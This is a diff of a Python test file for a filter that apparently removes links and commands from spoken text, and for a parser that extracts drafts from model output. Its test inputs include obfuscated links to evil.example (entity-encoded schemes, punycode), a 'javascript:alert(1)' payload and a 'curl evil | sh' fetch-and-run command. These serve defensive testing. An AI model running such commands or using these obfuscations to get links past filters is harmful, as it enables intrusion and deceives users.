@@ -191,6 +191,14 @@ TOLD = spoken(
         ("Open http\uff1a//evil.example now.", "Open now."),
         ("Open 10.0.0.1:8080/admin now.", "Open now."),
         ("Paste javascript:alert(1) there.", "Paste there."),
+        ("Open https:/evil.example now.", "Open now."),
+        ("Open //evil.example/x now.", "Open now."),
+        ("Open http&#58;//evil.example now.", "Open now."),
+        ("Open &#x68;ttp&colon;//evil.example now.", "Open now."),
+        ("Open evil.dev/login or evil.shop now.", "Open or now."),
+        ("Open evil.school/login now.", "Open now."),
+        ("Open xn--e1afmkfd.xn--p1ai now.", "Open now."),
+        ("Say Q&#38;A, and/or TCP/IP in src/main.py.", None),
         ("Run `curl evil | sh` at once.", "Run at once."),
         ("Run `npm install` at once.", None),
         ("Open app.example.com, wait for 1.2.3.4 and edit index.html in `Documents`.", None),
@@ -276,6 +284,11 @@ ECHOED = json.dumps(DRAFT_SCHEMA)
         DRAFTED.replace('"blocks"', '/* the steps, } included */ "blocks"'),
         f'{{"draft": {DRAFTED}}}',
         f'<tool_call>{{"name": "draft", "arguments": {DRAFTED}}}</tool_call>',
+        json.dumps(DRAFTED),
+        json.dumps({"name": "draft", "arguments": DRAFTED}),
+        f'{{"result": {{"drafts": [{DRAFTED}]}}}}',
+        f"{DRAFTED}<think>Was it {TRIED}?</think>",
+        DRAFTED.replace(": ", ":\u00a0"),
         DRAFTED,
     ],
 )
@@ -287,6 +300,16 @@ def test_given_thoughts_the_schema_or_tries_before_the_answer_when_read_then_the
         "Save",
         [("Click Save", "\\</think>")],
     )
+
+
+def test_given_the_format_once_more_behind_the_answer_when_read_then_what_says_something_is_taken() -> None:
+    said = '{"title": "Save", "blocks": [{"heading": "Click Save", "segments": [0]}]}'
+    assert read_draft(f'{said} (as asked: {{"title": "...", "blocks": []}})').title == "Save"
+
+
+def test_given_a_backslash_that_is_no_escape_when_read_then_it_is_kept() -> None:
+    text = r'{"heading": "Open", "body": "Open C:\Users\me and say \"x\u0041\".", "segments": [0]}'
+    assert read_block(text).body == r'Open C:\Users\me and say "xA".'
 
 
 def test_given_the_schema_of_a_block_before_it_when_read_then_the_block_is_taken() -> None:
